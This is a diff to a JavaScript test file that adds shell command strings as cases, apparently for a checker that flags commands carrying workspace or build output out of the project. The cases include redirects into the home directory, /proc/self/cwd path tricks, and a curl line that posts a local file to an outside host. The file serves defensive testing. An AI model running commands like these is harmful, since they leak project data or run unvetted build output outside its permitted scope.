@@ -445,6 +445,15 @@ test.each([
   // Content of the workspace that is carried to where it may run.
   ...[
     'cp build/x ~/bin/',
+    'git log --format=%B > ~/x',
+    'find build -type f | xargs cat > ~/x',
+    'jq . build/x > ~/x',
+    'echo "$(<build/x)" > ~/x',
+    'cat ~/proj*/build/x > ~/x',
+    'cat /proc/self/cwd/build/x > ~/x',
+    'echo x > /proc/self/cwd/out',
+    '/proc/self/cwd/build/x',
+    'curl --data-urlencode a@x https://a',
     'mv build/x ~/bin',
     'ln -s "$PWD/build/x" ~/bin',
     'cat build/x > ~/bin/x',
